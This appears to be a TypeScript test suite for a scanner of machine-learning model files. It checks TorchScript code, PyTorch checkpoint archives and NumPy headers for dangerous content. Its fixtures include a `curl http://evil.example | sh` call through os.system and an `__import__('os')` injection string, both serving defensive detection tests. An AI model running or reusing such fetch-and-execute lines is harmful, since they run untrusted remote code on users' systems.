import { describe, it } from 'node:test';
import assert from 'node:assert/strict';
import { analyzeTorchScriptSource } from '../../../server/src/core/formats/torch/torchscriptCode';
import { parseNpyHeader } from '../../../server/src/core/formats/numpy/npy';
import { parseLiteral, pyRepr } from '../../../server/src/core/formats/numpy/literal';
import { buildZip, torchCheckpoint } from '../../fixtures/zip/writer';
import { plainPickle } from '../../fixtures/zip/pickles';
import { byRule, one, scan } from './helpers';

function npy(header: string, payload: Uint8Array = new Uint8Array(0), version = 1): Uint8Array {
  const pre = version === 1 ? 10 : 12;
  const padded = header + ' '.repeat((64 - ((pre + header.length + 1) % 64)) % 64) + '\n';
  const b = Buffer.alloc(pre + padded.length + payload.length);
  Buffer.from([0x93, 0x4e, 0x55, 0x4d, 0x50, 0x59, version, 0]).copy(b);
  if (version === 1) b.writeUInt16LE(padded.length, 8);
  else b.writeUInt32LE(padded.length, 8);
  b.write(padded, pre, 'latin1');
  Buffer.from(payload).copy(b, pre + padded.length);
  return b;
}

describe('TorchScript sources', () => {
  const code = [
    'import torch',
    'from torch import Tensor',
    'import torch as T',
    'class M(Module):',
    '  def forward(self, x: Tensor) -> Tensor:',
    "    s = \"os.system('not code')\"  # eval(x)",
    '    y = torch.ops.aten.relu(x)',
    '    z = torch.ops.evilops.run(y)',
    "    os.system('curl http://evil.example | sh')",
    '    return getattr(self, "0")(z)',
    '',
  ].join('\n');

  it('flags custom op namespaces and OS calls, not strings, comments or aten', () => {
    const issues = analyzeTorchScriptSource(code);
    assert.deepEqual(issues.map((i) => [i.line, i.severity, i.evidence]), [
      [8, 'medium', 'z = torch.ops.evilops.run(y)'],
      [9, 'high', "os.system('curl http://evil.example | sh')"],
    ]);
  });

  it('reports them through the archive with member chain and absolute file offset', async () => {
    const z = buildZip([
      { name: 'm/data.pkl', data: plainPickle() },
      { name: 'm/constants.pkl', data: plainPickle() },
      { name: 'm/code/__torch__/model.py', data: code },
      { name: 'm/version', data: '3\n' },
    ]);
    const r = await scan(z.bytes, 'scripted.pt');
    assert.equal(r.format, 'torchscript');
    const fs = byRule(r, 'MSL719');
    assert.equal(fs.length, 2);
    const os = fs.find((f) => f.severity === 'high')!;
    const offset = code.lastIndexOf('os.system');
    assert.deepEqual(os.location, { kind: 'bytes', offset, members: ['m/code/__torch__/model.py'], fileOffset: z.entries[2]!.dataOffset + offset });
    assert.match(os.message, /^m\/code\/__torch__\/model\.py, line 9: TorchScript source uses `os\.system`/);
  });
});

describe('unexpected archive members', () => {
  it('native code and scripts in a checkpoint are high, unknown files medium', async () => {
    const elf = Buffer.concat([Buffer.from([0x7f, 0x45, 0x4c, 0x46, 2, 1, 1]), Buffer.alloc(100)]);
    const z = buildZip(torchCheckpoint('archive', plainPickle(), [elf], [
      { name: 'archive/libpayload.so', data: 'not really' },
      { name: 'archive/setup.py', data: 'import os' },
      { name: 'archive/notes.md', data: 'hi' },
      { name: 'elsewhere/readme', data: 'hi' },
    ]));
    const r = await scan(z.bytes, 'model.pt');
    assert.deepEqual(byRule(r, 'MSL718').map((f) => [f.severity, f.evidence]), [
      ['high', 'archive/data/0: ELF executable or shared library'],
      ['high', 'archive/libpayload.so'],
      ['high', 'archive/setup.py'],
      ['medium', 'archive/notes.md'],
      ['medium', 'elsewhere/readme'],
    ]);
  });
});

describe('.npy header', () => {
  it('parses dict literals without eval', () => {
    const lit = parseLiteral("{'descr': [('a', '<f4'), ('b', '|O', (2,))], 'fortran_order': False, 'shape': (3, 4), }");
    assert.ok(lit.ok);
    assert.equal(pyRepr(lit.value), "{'descr': [('a', '<f4'), ('b', '|O', (2,))], 'fortran_order': False, 'shape': (3, 4)}");
    assert.equal(parseLiteral("{'descr': __import__('os')}").ok, false);
  });

  it('reads versions 1 and 2, item sizes and object dtypes', () => {
    const v1 = parseNpyHeader(npy("{'descr': '<f8', 'fortran_order': False, 'shape': (2, 3), }"));
    assert.ok(v1.ok);
    assert.deepEqual([v1.header.shape, v1.header.itemSize, v1.header.hasObjects, v1.header.dataOffset % 64], [[2, 3], 8, false, 0]);
    const v2 = parseNpyHeader(npy("{'descr': [('x', '<i2', (3,)), ('o', '|O')], 'fortran_order': True, 'shape': (5,), }", undefined, 2));
    assert.ok(v2.ok);
    assert.deepEqual([v2.header.major, v2.header.hasObjects, v2.header.itemSize], [2, true, undefined]);
    const bad = parseNpyHeader(npy("{'descr': '<f8', 'shape': (2,), }"));
    assert.deepEqual(bad.ok ? null : bad.error, "header lacks one of 'descr', 'shape', 'fortran_order'");
  });

  it('reports truncated payloads and hidden trailing pickles', async () => {
    const truncated = await scan(npy("{'descr': '<f4', 'fortran_order': False, 'shape': (10,), }", new Uint8Array(12)), 'a.npy');
    const t = one(truncated, 'MSL710');
    assert.equal(t.evidence, 'expected 40 bytes, found 12');
    const trailing = await scan(npy("{'descr': '|u1', 'fortran_order': False, 'shape': (4,), }", Buffer.concat([Buffer.alloc(4), Buffer.from(plainPickle())])), 'a.npy');
    const x = one(trailing, 'MSL717');
    assert.equal(x.severity, 'high');
    assert.match(x.message, /follow the NumPy payload and they are a pickle stream/);
    const bad = await scan(npy("{'descr': '<f4', 'fortran_order': maybe, 'shape': (1,), }"), 'a.npy');
    assert.match(one(bad, 'MSL710').message, /^NumPy header is malformed: header literal: unexpected "m"/);
  });
});
